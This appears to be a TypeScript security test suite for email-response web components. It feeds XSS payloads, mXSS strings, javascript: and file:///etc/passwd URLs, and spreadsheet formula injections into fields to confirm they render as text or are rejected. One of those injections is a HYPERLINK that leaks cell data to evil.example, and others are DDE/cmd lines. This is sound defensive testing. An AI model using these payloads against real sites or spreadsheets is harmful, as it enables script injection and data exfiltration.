// Issue 9, part 2: hostile content. Markup and script in every string field of the events (and in
// a backend's rules labels, and in a stream's error text) render as text in the grid, the
// timeline and the summary: no element or attribute comes from the data and no script runs. CSV
// exports neutralize formulas in every field. Click URLs are never links to anything but
// http(s) and mailto. (Strict CSP and Trusted Types pages: test/faults-node/strict-page.e2e.test.mjs.)
import { expect, fixture, html } from '@open-wc/testing';
import { DEFAULT_RULES, type ResponseEvent, type ResponseRules } from '../../src/core/index';
import type { AudienceResponseGridElement } from '../../src/elements/audience-response-grid/audience-response-grid';
import '../../src/elements/audience-response-grid/define';
import type { ContactResponseTimelineElement } from '../../src/elements/contact-response-timeline/contact-response-timeline';
import '../../src/elements/contact-response-timeline/define';
import type { ResponseSummaryElement } from '../../src/elements/response-summary/response-summary';
import '../../src/elements/response-summary/define';
import { createResponseStore, type ResponseStore } from '../../src/store/response-store';
import { IterableSource } from '../../src/store/sources/index';
import { minutes as at } from '../support/events';
import { storeWith } from '../support/store';

declare global {
  interface Window {
    __faultsPwned?: string;
  }
}

/** Each would set `window.__faultsPwned` if it ever ran as markup. */
const PAYLOADS = [
  `<img src=x onerror="window.__faultsPwned='img'">`,
  `<script>window.__faultsPwned='script'</script>`,
  `"><svg onload="window.__faultsPwned='svg'"></svg>`,
  `'><iframe srcdoc="<script>parent.__faultsPwned='iframe'</script>"></iframe>`,
  `<a href="javascript:window.__faultsPwned='a'" id=link>click</a>`,
  `<style>*{display:none!important}</style>`,
  `<!-- <?lit$1234$> {{constructor.constructor('window.__faultsPwned=1')()}} \${window.__faultsPwned=1} -->`,
  `<details open ontoggle="window.__faultsPwned='details'">`,
  `</span></div></td></tr><b>bold</b><object data="javascript:window.__faultsPwned=1">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__faultsPwned='mxss'">`,
];

/**
 * Tags a payload would bring in. The summary draws its own `<details>` lists and `<svg>` chart: see
 * `noForeignNodes`.
 */
const FOREIGN_TAGS = [
  'script',
  'img',
  'iframe',
  'a',
  'style',
  'details',
  'b',
  'object',
  'math',
  'mglyph',
  'mtext',
  'embed',
];
const URL_ATTRIBUTES = ['href', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href', 'data'];

const EMAIL = PAYLOADS[2]!;
const CONTACT = PAYLOADS[3]!;

/** Events whose every string field is a payload (in turns), about one hostile email and contact. */
function hostileEvents(payload: (i: number) => string): ResponseEvent[] {
  const events: ResponseEvent[] = [];
  const responses = [
    'delivered',
    'opened',
    'clicked',
    'unsubscribed',
    'soft-bounce',
    'hard-bounce',
    'spam-complaint',
    'sent-to-provider',
  ];
  for (let i = 0; i < 16; i++) {
    const response = responses[i % responses.length]!;
    events.push({
      id: payload(i),
      emailId: payload(-1),
      recipientId: i < 4 ? `${payload(i + 1)}#${i}` : `r${i}`,
      response,
      at: at(i),
      contactId: i % 2 === 0 ? payload(-2) : `c${i}`,
      contactName: payload(i + 2),
      address: `${payload(i + 3)}@example.com`,
      emailKind: 'bulk',
      emailType: payload(7),
      provider: payload(i + 4).slice(0, 64),
      reason: payload(i + 5),
      ...(response === 'clicked'
        ? { url: `https://example.com/?q=${encodeURIComponent(payload(i))}&raw=${payload(i + 6)}` }
        : {}),
    });
  }
  // A second email of the hostile contact, so the timeline lists several.
  events.push({
    id: 'second',
    emailId: payload(8),
    recipientId: payload(9),
    response: 'clicked',
    at: at(30),
    contactId: payload(-2),
    url: `mailto:a@example.com?subject=${payload(1)}`,
    reason: payload(0),
  });
  return events;
}

const hostile = (i: number) =>
  i === -1 ? EMAIL : i === -2 ? CONTACT : PAYLOADS[((i % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length]!;
const benign = (i: number) =>
  i === -1 ? 'email-x' : i === -2 ? 'contact-x' : `text-${((i % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length}`;

/** Every element under a root, through open shadow roots. */
function elementsIn(root: ParentNode): Element[] {
  const out: Element[] = [];
  for (const element of root.querySelectorAll('*')) {
    out.push(element);
    if (element.shadowRoot) out.push(...elementsIn(element.shadowRoot));
  }
  return out;
}

/** Tag and attribute names in tree order: what the data must never change. */
function shape(root: ParentNode): string[] {
  return elementsIn(root).map((element) => `${element.localName}[${element.getAttributeNames().sort().join(' ')}]`);
}

function noForeignNodes(root: ParentNode, ownSvg = 0, ownTags: readonly string[] = []): void {
  const elements = elementsIn(root);
  const foreign = elements
    .filter((element) => FOREIGN_TAGS.includes(element.localName) && !ownTags.includes(element.localName))
    .map((element) => element.outerHTML.slice(0, 80));
  expect(foreign, 'elements from the data').to.deep.equal([]);
  const handlers = elements.flatMap((element) =>
    element
      .getAttributeNames()
      .filter((name) => name.startsWith('on'))
      .map((name) => `${element.localName}[${name}]`),
  );
  expect(handlers, 'event handler attributes').to.deep.equal([]);
  expect(elements.filter((element) => element.localName === 'svg')).to.have.length(ownSvg);
  for (const element of elements) {
    for (const name of URL_ATTRIBUTES) {
      const value = element.getAttribute(name);
      if (value !== null) expect(value, `${element.localName}[${name}]`).to.match(/^(https?:|mailto:)/i);
    }
  }
}

/** Lets any image error, toggle or load handler that slipped in fire. */
async function letHandlersRun(): Promise<void> {
  for (let i = 0; i < 3; i++) await new Promise((resolve) => requestAnimationFrame(resolve));
  await new Promise((resolve) => setTimeout(resolve, 50));
}

async function mountAll(store: ResponseStore, emailId: string, contactId: string) {
  const grid = await fixture<AudienceResponseGridElement>(
    html`<audience-response-grid email-id=${emailId} columns="provider email-type" time-zone="UTC" style="--email-responses-height: 900px" .store=${store}></audience-response-grid>`,
  );
  const timeline = await fixture<ContactResponseTimelineElement>(
    html`<contact-response-timeline contact-id=${contactId} time-zone="UTC" .store=${store}></contact-response-timeline>`,
  );
  const summary = await fixture<ResponseSummaryElement>(
    html`<response-summary email-id=${emailId} .store=${store}></response-summary>`,
  );
  for (let i = 0; i < 3; i++) {
    await Promise.all([grid.updateComplete, timeline.updateComplete, summary.updateComplete]);
    await new Promise((resolve) => requestAnimationFrame(resolve));
  }
  return { grid, timeline, summary };
}

const textOf = (root: ParentNode) =>
  elementsIn(root)
    .map((element) =>
      [...element.childNodes]
        .filter((node) => node.nodeType === Node.TEXT_NODE)
        .map((node) => node.textContent)
        .join(''),
    )
    .join('\n');

describe('hostile content renders as text', () => {
  beforeEach(() => delete window.__faultsPwned);

  it('markup and script in every string field: the grid, the timeline and the summary show it as text', async () => {
    const store = await storeWith(hostileEvents(hostile));
    const { grid, timeline, summary } = await mountAll(store, EMAIL, CONTACT);
    await letHandlersRun();
    expect(window.__faultsPwned, 'no payload ran').to.equal(undefined);
    noForeignNodes(grid.shadowRoot!);
    noForeignNodes(timeline.shadowRoot!);
    // The summary's own: its stage lists and the chart's table are <details>, and its chart an
    // <svg> (the shape test shows none came from data).
    noForeignNodes(summary.shadowRoot!, 1, ['details']);
    expect(grid.rowCount).to.equal(16);
    const gridText = textOf(grid.shadowRoot!);
    const timelineText = textOf(timeline.shadowRoot!);
    const summaryText = textOf(summary.shadowRoot!);
    // Names, addresses, reasons, providers and the email type, verbatim, as text.
    for (let i = 0; i < 16; i++) {
      expect(gridText).to.include(hostile(i + 2));
      expect(gridText).to.include(`${hostile(i + 3)}@example.com`);
      expect(gridText).to.include(hostile(i + 5));
      expect(gridText).to.include(hostile(i + 4).slice(0, 64));
    }
    expect(gridText).to.include(hostile(7));
    for (const text of [
      EMAIL,
      hostile(8),
      hostile(7),
      `${hostile(3)}@example.com`,
      hostile(5),
      `mailto:a@example.com?subject=${hostile(1)}`,
    ])
      expect(timelineText).to.include(text);
    expect(timelineText).to.include(`https://example.com/?q=${encodeURIComponent(hostile(2))}&raw=${hostile(8)}`);
    expect(summaryText).to.include(EMAIL);
  });

  it('no element or attribute comes from the data: the DOM has the same shape as with plain text', async () => {
    const plain = await mountAll(await storeWith(hostileEvents(benign)), benign(-1), benign(-2));
    await letHandlersRun();
    const plainShapes = [
      shape(plain.grid.shadowRoot!),
      shape(plain.timeline.shadowRoot!),
      shape(plain.summary.shadowRoot!),
    ];
    const bad = await mountAll(await storeWith(hostileEvents(hostile)), EMAIL, CONTACT);
    await letHandlersRun();
    for (const plainShape of plainShapes) expect(plainShape.length).to.be.above(30);
    expect(shape(bad.grid.shadowRoot!)).to.deep.equal(plainShapes[0]);
    expect(shape(bad.timeline.shadowRoot!)).to.deep.equal(plainShapes[1]);
    expect(shape(bad.summary.shadowRoot!)).to.deep.equal(plainShapes[2]);
    expect(window.__faultsPwned).to.equal(undefined);
  });

  it("markup in a backend's rules labels (rules-url) stays text in every element", async () => {
    const rules: ResponseRules = {
      ...DEFAULT_RULES,
      version: 'hostile-labels',
      responses: DEFAULT_RULES.responses.map((r, i) => ({
        ...r,
        label: `${PAYLOADS[i % PAYLOADS.length]} ${r.label}`,
      })),
    };
    const store = await storeWith(hostileEvents(benign), { rules });
    const { grid, timeline, summary } = await mountAll(store, benign(-1), benign(-2));
    await letHandlersRun();
    expect(window.__faultsPwned).to.equal(undefined);
    noForeignNodes(grid.shadowRoot!);
    noForeignNodes(timeline.shadowRoot!);
    // The summary's own: its stage lists and the chart's table are <details>, and its chart an
    // <svg> (the shape test shows none came from data).
    noForeignNodes(summary.shadowRoot!, 1, ['details']);
    const label = rules.responses.find((r) => r.id === 'opened')!.label;
    expect(textOf(grid.shadowRoot!)).to.include(label);
    expect(textOf(summary.shadowRoot!)).to.include(rules.responses.find((r) => r.id === 'hard-bounce')!.label);
  });

  it("markup in a stream's error text shows as text in the connection notice", async () => {
    const store = createResponseStore();
    await store.ingest(hostileEvents(benign));
    const payload = PAYLOADS[0]!;
    store.connect(
      new IterableSource(
        () => ({
          [Symbol.asyncIterator]: () => ({ next: () => Promise.reject(new Error(payload)) }),
        }),
        { backoff: { initialMs: 60_000, jitter: 0 }, watchNetwork: false },
      ),
    );
    const { grid, summary } = await mountAll(store, benign(-1), benign(-2));
    for (let i = 0; i < 50 && store.connection.state !== 'retrying'; i++)
      await new Promise((resolve) => setTimeout(resolve, 10));
    await Promise.all([grid.updateComplete, summary.updateComplete]);
    await letHandlersRun();
    expect(store.connection.state).to.equal('retrying');
    expect(window.__faultsPwned).to.equal(undefined);
    noForeignNodes(grid.shadowRoot!);
    // The summary's own: its stage lists and the chart's table are <details>, and its chart an
    // <svg> (the shape test shows none came from data).
    noForeignNodes(summary.shadowRoot!, 1, ['details']);
    // The notice is in the user's words (the stream's error text is for developers, issue 13): what
    // matters here is that none of its markup became nodes.
    expect([...grid.shadowRoot!.querySelectorAll('[part="status"]')].map((p) => p.textContent).join(' ')).to.include(
      'Live updates interrupted',
    );
    store.close();
  });
});

/** RFC 4180: quoted cells may hold commas, quotes and line breaks; lines end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      ((row = []), (cell = ''), i++);
    } else cell += c;
  }
  expect(quoted, 'the CSV ends outside quotes').to.equal(false);
  expect(cell === '' && row.length === 0, 'the CSV ends with CRLF').to.equal(true);
  return rows;
}

describe('CSV formula injection in every field', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=1+1\n=2+2',
    '=DDE("cmd";"/C calc";"!A0"),"quoted"',
  ];
  // The fields an export writes, and the column each lands in.
  const FIELDS: [keyof ResponseEvent, string][] = [
    ['contactName', 'Contact'],
    ['address', 'Email address'],
    ['reason', 'Details'],
    ['provider', 'Provider'],
    ['emailType', 'Email type'],
    ['recipientId', 'Recipient id'],
    ['contactId', 'Contact id'],
  ];

  async function exportFor(response: string) {
    const events: ResponseEvent[] = [];
    FIELDS.forEach(([field], f) =>
      FORMULAS.forEach((formula, p) => {
        // emailType belongs to the email: one email per formula keeps each row's own.
        const event: ResponseEvent = {
          id: `csv-${f}-${p}`,
          emailId: field === 'emailType' ? `csv-${p}` : 'csv',
          recipientId: `r-${f}-${p}`,
          response,
          at: at(f * 10 + p),
        };
        (event as unknown as Record<string, string>)[field] = formula;
        events.push(event);
      }),
    );
    const store = await storeWith(events);
    const emails = ['csv', ...FORMULAS.map((_, p) => `csv-${p}`)];
    const grids = await Promise.all(
      emails.map((emailId) =>
        fixture<AudienceResponseGridElement>(
          html`<audience-response-grid email-id=${emailId} columns="provider email-type" time-zone="UTC" .store=${store}></audience-response-grid>`,
        ),
      ),
    );
    await Promise.all(grids.map((grid) => grid.updateComplete));
    return grids;
  }

  function checkCells(rows: string[][], header: string[]): void {
    const recipientColumn = header.indexOf('Recipient id');
    for (const row of rows) {
      expect(row, 'cells per row').to.have.length(header.length);
      for (const cell of row) expect(cell, 'no cell starts as a formula').not.to.match(/^[=+\-@\t\r]/);
    }
    FIELDS.forEach(([field, column], f) => {
      const index = header.indexOf(column);
      if (index < 0) return;
      FORMULAS.forEach((formula, p) => {
        const row =
          field === 'recipientId'
            ? rows.find((r) => r[recipientColumn] === `'${formula}`)
            : rows.find((r) => r[recipientColumn] === `r-${f}-${p}`);
        expect(row, `${field} ${JSON.stringify(formula)}`).not.to.equal(undefined);
        expect(row![index], `${field} ${JSON.stringify(formula)}`).to.equal(`'${formula}`);
      });
    });
  }

  it('the audience export neutralizes a formula in every field, and quotes what needs quotes', async () => {
    const grids = await exportFor('delivered');
    const parsed = await Promise.all(grids.map(async (grid) => parseCsv(await grid.csv())));
    const header = parsed[0]![0]!;
    expect(header).to.deep.equal([
      'Contact',
      'Email address',
      'Stage',
      'Response',
      'Final',
      'Details',
      'Opens',
      'Clicks',
      'Last response (UTC)',
      'Provider',
      'Email type',
      'Recipient id',
      'Contact id',
    ]);
    checkCells(
      parsed.flatMap((rows) => rows.slice(1)),
      header,
    );
  });

  it('the soft-bounce resend list does too', async () => {
    const grids = await exportFor('soft-bounce');
    const parsed = await Promise.all(grids.map(async (grid) => parseCsv(await grid.resendCsv())));
    const header = parsed[0]![0]!;
    expect(header).to.deep.equal([
      'Contact',
      'Email address',
      'Details',
      'Last response (UTC)',
      'Recipient id',
      'Contact id',
    ]);
    checkCells(
      parsed.flatMap((rows) => rows.slice(1)),
      header,
    );
  });
});

describe('click URLs', () => {
  const base = { emailId: 'urls', recipientId: 'r1', contactId: 'c-urls', response: 'clicked', at: at(1) };
  const UNSAFE = [
    'javascript:window.__faultsPwned=1',
    'JavaScript:alert(1)',
    ' javascript:alert(1)',
    '\tjavascript:alert(1)',
    'java\nscript:alert(1)',
    '\u0000javascript:alert(1)',
    'jav&#x61;script:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://example.com/1234',
    '//evil.example/path',
    '/relative/path',
    'https:evil.example',
    'http:/evil.example',
    'mailto',
  ];

  it('are rejected unless http(s) or mailto; none becomes a javascript: link anywhere', async () => {
    const store = createResponseStore();
    const bad = UNSAFE.map((url, i) => ({ ...base, id: `bad-${i}`, url }));
    const good = [
      'https://example.com/?q=<script>',
      'HTTP://EXAMPLE.COM/',
      'mailto:someone@example.com?subject=<b>hi</b>',
    ].map((url, i) => ({ ...base, id: `good-${i}`, url, at: at(2 + i) }));
    const result = await store.ingest([...bad, ...good]);
    expect(result.accepted).to.equal(good.length);
    expect(result.rejected.map((r) => [r.code, r.field])).to.deep.equal(UNSAFE.map(() => ['unsafe-url', 'url']));
    store.flush();
    const { grid, timeline, summary } = await mountAll(store, 'urls', 'c-urls');
    await letHandlersRun();
    for (const root of [grid.shadowRoot!, timeline.shadowRoot!, summary.shadowRoot!]) {
      for (const link of elementsIn(root).filter((element) => element.hasAttribute('href'))) {
        expect(link.getAttribute('href')).to.match(/^(https?:\/\/|mailto:)/i);
      }
      expect(root.querySelectorAll('[href^="javascript:" i], [src^="javascript:" i]')).to.have.length(0);
    }
    const shown = [...timeline.shadowRoot!.querySelectorAll('[part~="url"]')].map((element) => element.textContent);
    expect(shown).to.have.members(good.map((event) => event.url));
    expect(window.__faultsPwned).to.equal(undefined);
  });
});
